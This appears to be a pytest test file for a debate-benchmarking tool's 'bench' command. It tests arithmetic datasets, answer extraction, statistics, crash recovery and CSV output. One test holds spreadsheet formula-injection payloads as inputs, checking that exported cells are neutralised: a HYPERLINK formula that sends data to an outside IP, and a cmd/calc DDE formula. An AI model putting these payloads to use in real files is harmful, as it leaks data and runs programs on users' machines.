"""`moot bench`: a data set through protocols, against the loopback server that answers
arithmetic right with a set probability. Each result row agrees with its saved debate, the
accuracy is correct/n, a rerun sends no request, a killed run loses no finished question."""

from __future__ import annotations

import csv
import io
import json
import signal
import subprocess
import sys
import time
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest

from moot.core.bench.datasets import arithmetic, eval_arithmetic, load_dataset
from moot.core.bench.output import render_csv
from moot.core.bench.results import answers_by_round, read_row
from moot.core.bench.stats import mcnemar_p, stderr
from moot.core.models.config import AnswerFormat
from moot.core.protocols.answers import extract, is_correct, majority
from moot.core.storage.state_dir import StateDir
from tests.conftest import ROOT, cli
from tests.loopback import LoopbackServer, arithmetic_reply

NUMBER = AnswerFormat(kind="number")


def test_arithmetic_generator_is_du_et_al_and_seeded() -> None:
    qs = arithmetic(50)
    for q in qs:
        expr = q.question.split("result of ")[1].split("?")[0]
        nums = [int(x) for x in expr.replace("+", " ").replace("-", " ").replace("*", " ").split()]
        ops = [c for c in expr if c in "+-*"]
        assert ops == ["+", "*", "+", "-", "*"] and len(nums) == 6 and all(0 <= x <= 29 for x in nums)
        assert int(q.answer) == eval_arithmetic(expr) == eval(expr)  # noqa: S307 - digits and + - * only
    assert [q.question for q in arithmetic(50)] == [q.question for q in qs]
    assert [q.question for q in arithmetic(50, seed=1)] != [q.question for q in qs]
    easy = load_dataset("arithmetic:20:terms=3:seed=2").questions
    assert all(q.question.count("+") + q.question.count("*") == 2 for q in easy)
    assert load_dataset("arithmetic:20:terms=3:seed=2").fingerprint != load_dataset("arithmetic:20").fingerprint


def test_answers_are_extracted_in_their_form_and_unparsable_is_wrong() -> None:
    assert extract("2 × 21 = 42, then 17 + 42 = 59.\n\nAnswer: 1,234", NUMBER) == "1234"
    assert extract("so the total is **-7.0**", NUMBER) == "-7"
    assert extract("I would need a calculator for that.", NUMBER) is None
    # A `*` between digits is a product, not emphasis: a reply restating "13+14*11" gave 1411 when
    # the star was taken off as markup, and two such replies looked like agreement.
    assert extract("Let me restate it: what is 0+21*13.", NUMBER) == "13"
    assert extract("Answer: **154**", NUMBER) == "154"  # emphasis is still markup
    assert not is_correct(None, "0", NUMBER)
    assert is_correct(extract("It is \\boxed{12}.", NUMBER), "12", NUMBER)
    choice = AnswerFormat(kind="choice", choices=["Paris", "London", "Rome"])
    assert extract("Answer: (B)", choice) == "B"
    assert extract("Answer: Rome", choice) == "C"
    assert extract("Answer: A lot depends on it", choice) is None
    assert is_correct("B", "London", choice)
    assert extract("Answer:  The Nile. ", AnswerFormat(kind="text")) == "the nile"
    assert extract("x \\boxed{\\frac{1}{2}} y", AnswerFormat(kind="boxed")) == "\\frac{1}{2}"
    tie = majority(["7", "9", None, "9", "7"])
    assert tie.winner == "7" and tie.tied == ["7", "9"] and "tie" in tie.rule  # the tied answer given first
    assert majority(["9", "7", "9"]).winner == "9" and majority([None, None]).winner is None


def test_stats() -> None:
    assert stderr(30, 100) == pytest.approx((0.3 * 0.7 / 100) ** 0.5)
    assert mcnemar_p(0, 0) == 1.0
    assert mcnemar_p(0, 6) == pytest.approx(2 / 64)


def _bench(*args: str) -> tuple[int, str, str]:
    r = cli("bench", *args)
    return r.returncode, r.stdout, r.stderr


def test_bench_rows_agree_with_their_debates_and_a_rerun_sends_no_request(tmp_path: Path) -> None:
    sd = tmp_path / "debates"
    with LoopbackServer(arithmetic_reply(0.6)) as srv:
        args = ["arithmetic:8:terms=3", "--protocols", "single,vote,simultaneous,council", "--provider", "openai",
                "--base-url", srv.base_url, "--model", "loop", "--headless", "--state-dir", str(sd),
                "-o", str(tmp_path / "r.json")]
        code, out, err = _bench(*args)
        assert code == 0, err
        first = srv.calls
        doc = json.loads((tmp_path / "r.json").read_text())
        # vote at equal cost: simultaneous makes 3 agents × 2 rounds = 6 calls per question
        assert doc["vote_samples"] == 6 and "simultaneous makes 6 calls" in doc["vote_samples_note"]
        rows = doc["results"]
        assert len(rows) == 8 * 4
        assert first == sum(r["calls"] for r in rows)  # every request is in some debate's totals
        calls = {p: {r["calls"] for r in rows if r["protocol"] == p} for p in doc["protocols"]}
        assert calls == {"single": {1}, "vote": {6}, "simultaneous": {6}, "council": {7}}
        folders = StateDir(sd)
        for row in rows:  # each row agrees with its saved debate, read afresh
            folder = folders.open(row["debate_id"])
            state = folder.load()
            assert state.status == "completed" and state.protocol == row["protocol"]
            again = read_row(row["id"], row["expected"], NUMBER, folder, state)
            assert again.model_dump(mode="json") == row
            last = {a: cs[-1].content for a, cs in answers_by_round(state).items()}
            assert row["agent_answers"] == {a: extract(t, NUMBER) for a, t in last.items()}
            if row["protocol"] in ("vote", "simultaneous", "single"):
                assert row["answer"] == majority(list(row["agent_answers"].values())).winner
                assert state.final_solution is not None and state.final_solution.tally is not None
                assert state.final_solution.tally.winner == row["answer"]
            else:  # council: the chairman's answer
                assert state.final_solution is not None
                assert row["answer"] == extract(state.final_solution.description, NUMBER)
            assert row["correct"] == (row["answer"] == row["expected"])
        for p, s in doc["protocols"].items():
            mine = [r for r in rows if r["protocol"] == p]
            assert s["n"] == len(mine) == 8 and s["correct"] == sum(r["correct"] for r in mine)
            assert s["accuracy"] == pytest.approx(s["correct"] / s["n"])
            assert s["stderr"] == pytest.approx(stderr(s["correct"], s["n"]))
        # the loopback is right 60% of the time: a single answer is not always right, nor always wrong
        assert 0 < doc["protocols"]["single"]["correct"] < 8
        assert "accuracy % ± se" in out and "paired comparisons" in out

        code, out2, err2 = _bench(*args)  # the same command again: all read back, no request
        assert code == 0, err2
        assert srv.calls == first
        assert "32 of 32 already finished" in err2
        assert json.loads((tmp_path / "r.json").read_text())["results"] == rows
        assert out2 == out


def test_bench_outputs_markdown_with_plot_and_csv(tmp_path: Path) -> None:
    sd = tmp_path / "d"
    code, out, err = _bench("arithmetic:4", "--provider", "demo", "--headless", "--state-dir", str(sd),
                            "-o", str(tmp_path / "r.md"))
    assert code == 0, err
    md = (tmp_path / "r.md").read_text()
    assert "| protocol | n | correct | accuracy % ± se | tokens/q |" in md and "DEMO provider" in md
    assert "![accuracy against tokens per question](r.svg)" in md
    svg = ET.fromstring((tmp_path / "r.svg").read_text())  # well-formed, one point per protocol
    assert len([e for e in svg.iter() if e.tag.endswith("circle")]) == 3
    width = float(svg.get("width", 0))
    for label in (e for e in svg.iter() if e.tag.endswith("text") and "%" in (e.text or "") and e.get("y")):
        # A point's label stays on the plot: one that starts in the right half is drawn leftwards.
        if label.get("text-anchor") != "end" and float(label.get("x", 0)) > width / 2:
            raise AssertionError(f"label {label.text!r} runs right from x={label.get('x')} of {width}")
    code, _, err = _bench("arithmetic:4", "--provider", "demo", "--headless", "--state-dir", str(sd),
                          "-o", str(tmp_path / "r.csv"))
    assert code == 0, err
    rows = list(csv.DictReader((tmp_path / "r.csv").open()))
    assert len(rows) == 12 and {r["protocol"] for r in rows} == {"single", "vote", "simultaneous"}
    assert _bench("arithmetic:4", "--headless", "-o", "r.txt")[0] == 2
    code, _, err = _bench("arithmetic:4", "--protocols", "single,votes", "--headless")
    assert code == 2 and "did you mean 'vote'" in err
    code, _, err = _bench("arithmetic:x", "--headless")
    assert code == 2 and "arithmetic:N" in err


def test_bench_jsonl_with_choices(tmp_path: Path) -> None:
    data = tmp_path / "q.jsonl"
    data.write_text("\n".join(json.dumps(x) for x in [
        {"id": "q1", "question": "Which of these is a prime number?", "choices": ["21", "23", "25"], "answer": "B"},
        {"id": "q2", "question": "What is 12 times 24?", "answer": "288"},
    ]) + "\n")
    code, out, err = _bench(str(data), "--protocols", "single,vote", "--provider", "demo", "--headless",
                            "--state-dir", str(tmp_path / "d"), "-o", str(tmp_path / "r.json"))
    assert code == 0, err
    rows = json.loads((tmp_path / "r.json").read_text())["results"]
    assert {r["expected"] for r in rows} == {"B", "288"}
    assert all(r["answer"] is None or len(r["answer"]) == 1 for r in rows if r["id"] == "q1")
    bad = tmp_path / "bad.jsonl"
    bad.write_text('{"id": "q1", "question": "x"}\n')
    code, _, err = _bench(str(bad), "--headless")
    assert code == 2 and "bad.jsonl:1: missing answer" in err


@pytest.mark.slow
def test_bench_killed_with_sigkill_loses_no_finished_question(tmp_path: Path) -> None:
    """kill -9 in the middle of a run; the rerun finishes the rest and repeats no finished
    question's request (only calls that were in flight at the kill are made again)."""
    sd = tmp_path / "debates"
    with LoopbackServer(arithmetic_reply(0.6), chunk_delay=0.02, chunk_chars=8) as srv:
        cmd = [sys.executable, "-m", "moot", "bench", "arithmetic:6:terms=3", "--protocols", "single,simultaneous",
               "--provider", "openai", "--base-url", srv.base_url, "--model", "loop", "--headless",
               "--state-dir", str(sd), "--concurrency", "2"]
        proc = subprocess.Popen(cmd, cwd=ROOT, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
        try:
            deadline = time.monotonic() + 60
            while time.monotonic() < deadline:
                done = [f for f in StateDir(sd).debates() if f.load().status == "completed"]
                if len(done) >= 3:
                    break
                time.sleep(0.1)
            proc.send_signal(signal.SIGKILL)
            proc.wait(timeout=10)
        finally:
            if proc.poll() is None:
                proc.kill()
        at_kill = {f.id: f.load() for f in StateDir(sd).debates()}
        finished = {i: s.totals.calls for i, s in at_kill.items() if s.status == "completed"}
        assert 3 <= len(finished) < 12, "the run ended before the kill; the server is too fast for this test"
        before = srv.calls
        code, out, err = _bench(*cmd[4:])
        assert code == 0, err
        states = {f.id: f.load() for f in StateDir(sd).debates()}
        assert len(states) == 12 and all(s.status == "completed" for s in states.values())
        for debate_id, calls in finished.items():  # untouched: no event after its end
            assert states[debate_id].totals.calls == calls
        redone = srv.calls - before
        left = sum(s.totals.calls - (at_kill[i].totals.calls if i in at_kill else 0)
                   for i, s in states.items() if i not in finished)
        # the rest of the work, plus at most the calls in flight at the kill (2 debates × 3 agents)
        assert left <= redone <= left + 6


def test_executor_ray_without_ray_is_one_line(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(sys.modules, "ray", None)  # as if `moot[ray]` were not installed
    code, _, err = _bench("arithmetic:2", "--provider", "demo", "--headless", "--executor", "ray",
                          "--state-dir", str(tmp_path / "d"))
    assert code == 4 and err.strip().splitlines() == ["moot: --executor ray needs Ray: pip install 'moot[ray]'"]


def test_bench_csv_cells_cannot_start_a_spreadsheet_formula(tmp_path: Path) -> None:
    """A cell a data set or a model wrote that starts with = + - @ (or tab / CR) is a formula to a
    spreadsheet (`=HYPERLINK(…)` leaks data, `=cmd|…` runs a program): it gets a leading quote (a
    bare CR, which would split the row, goes first). A plain number (-12) stays a number; the JSON
    output keeps every value as it was."""
    data = tmp_path / "q.jsonl"
    data.write_text("\n".join(json.dumps(x) for x in [
        {"id": "q1", "question": "What is 7 minus 19?", "answer": "-12"},
        {"id": "q2", "question": "Which formula links the report?", "answer": '=HYPERLINK("http://198.51.100.7/?q="&A2,"open")'},
        {"id": "q3", "question": "Which formula sums the column?", "answer": "@SUM(A1:A9)"},
    ]) + "\n")
    sd = tmp_path / "d"
    code, _, err = _bench(str(data), "--protocols", "single", "--provider", "demo", "--headless",
                          "--state-dir", str(sd), "-o", str(tmp_path / "r.csv"))
    assert code == 0, err
    rows = list(csv.DictReader((tmp_path / "r.csv").open(newline="")))
    # (a text answer compares normalized: lower case, no closing punctuation)
    assert [r["expected"] for r in rows] == ["-12", '\'=hyperlink("http://198.51.100.7/?q="&a2,"open', "'@sum(a1:a9"]
    code, _, err = _bench(str(data), "--protocols", "single", "--provider", "demo", "--headless",
                          "--state-dir", str(sd), "-o", str(tmp_path / "r.json"))
    assert code == 0, err
    doc = json.loads((tmp_path / "r.json").read_text())
    assert doc["results"][2]["expected"] == "@sum(a1:a9"
    # What a model or a server wrote: the answer, the error, the agents' answers.
    row = {**doc["results"][0], "answer": "+cmd|' /C calc'!A0", "error": "\r=2+3", "decided_by": "\tsingle",
           "agent_answers": {"a": "=1+1"}}
    [line] = list(csv.DictReader(io.StringIO(render_csv({**doc, "results": [row]}), newline="")))
    assert (line["answer"], line["error"], line["decided_by"]) == ("'+cmd|' /C calc'!A0", "'=2+3", "'\tsingle")
    assert line["agent_answers"] == '{"a": "=1+1"}'  # starts with a brace: no formula


@pytest.mark.parametrize(("answer", "says"), [
    ([12, 13], "a list"), ({"value": 12}, "an object"), (None, "null"), (True, "true"), ("  ", "empty"),
], ids=["list", "object", "null", "bool", "blank"])
def test_a_dataset_answer_that_is_not_text_or_a_number_is_one_line_naming_the_line(
        tmp_path: Path, answer: object, says: str) -> None:
    """`str()` made a list "[12, 13]" and null "None": answers no model could give, so every
    question was scored wrong without a word. Refused at the line that holds it."""
    data = tmp_path / "q.jsonl"
    data.write_text(json.dumps({"id": "q1", "question": "What is 12 times 24?", "answer": "288"}) + "\n"
                    + json.dumps({"id": "q2", "question": "What is 7 minus 19?", "answer": answer}) + "\n")
    code, out, err = _bench(str(data), "--protocols", "single", "--provider", "demo", "--headless",
                            "--state-dir", str(tmp_path / "d"))
    assert code == 2, err
    assert err.count("\n") == 1 and "Traceback" not in err
    assert f"{data}:2: answer must be text or a number" in err and says in err, err
    assert not (tmp_path / "d").exists() or not any((tmp_path / "d").iterdir())


@pytest.mark.parametrize(("line", "says"), [
    ('{"id": "q2", "question": "How many grains of sand fill the jar?", "answer": ' + "7" * 5000 + "}",
     "digits"),
    ('{"id": "q2", "question": "How many grains of sand fill the jar?", "answer": "' + "7" * 1500 + '"}',
     "1500 digits"),
    ("[" * 100_000 + "]" * 100_000, "nested too deeply"),
    ('{"id": "q2", "question": "What is zero divided by zero?", "answer": NaN}', "NaN is not a number"),
    ('{"id": "q2", "question": "What is ten to the thousandth power?", "answer": 1e999}', "not a finite number"),
], ids=["huge-int", "huge-text-number", "deep", "nan", "overflow"])
def test_a_dataset_answer_that_can_never_be_scored_is_refused_at_its_line(
        tmp_path: Path, line: str, says: str) -> None:
    """A number too long for Python, a nesting that exhausts recursion, NaN and a float that
    overflows to infinity: none can equal a model's answer, so each is one line naming the line."""
    data = tmp_path / "q.jsonl"
    data.write_text(json.dumps({"id": "q1", "question": "What is 12 times 24?", "answer": "288"}) + "\n"
                    + line + "\n")
    code, out, err = _bench(str(data), "--protocols", "single", "--provider", "demo", "--headless",
                            "--state-dir", str(tmp_path / "d"))
    assert code == 2, err
    assert err.count("\n") == 1 and "Traceback" not in err
    assert f"{data}:2: " in err and says in err, err


def test_bench_from_a_round_runs_each_debate_again_from_that_point_of_its_saved_one(tmp_path: Path) -> None:
    sd = tmp_path / "debates"
    with LoopbackServer(arithmetic_reply(0.6)) as srv:
        args = ["arithmetic:3:terms=3", "--protocols", "single,simultaneous", "--provider", "openai",
                "--base-url", srv.base_url, "--model", "loop", "--headless", "--state-dir", str(sd)]
        code, _, err = _bench(*args, "--from", "round:2")  # nothing saved yet to run from
        assert code != 0 and "without --from first" in err
        for junk in [f for f in StateDir(sd).debates()]:
            assert "-from-" not in junk.id
        code, _, err = _bench(*args, "-o", str(tmp_path / "base.json"))
        assert code == 0, err
        base = {(r["protocol"], r["id"]): r for r in json.loads((tmp_path / "base.json").read_text())["results"]}
        sent = srv.calls
        code, out, err = _bench(*args, "--from", "round:2", "-o", str(tmp_path / "from.json"))
        assert code == 0, err
        # Only round 2 of each simultaneous debate ran again: 3 agents × 3 questions; single was read back.
        assert srv.calls - sent == 3 * 3
    rows = json.loads((tmp_path / "from.json").read_text())["results"]
    folders = StateDir(sd)
    for row in rows:
        parent = base[(row["protocol"], row["id"])]
        if row["protocol"] == "single":
            assert row == parent
            continue
        assert row["debate_id"] == parent["debate_id"] + "-from-round-2"
        state = folders.open(row["debate_id"]).load()
        assert state.forked_from is not None and state.forked_from.debate == parent["debate_id"]
        assert state.forked_from.at == "round:2" and state.status == "completed"
        before = folders.open(parent["debate_id"]).load()
        assert [c.id for c in state.round(1).contributions] == [c.id for c in before.round(1).contributions]
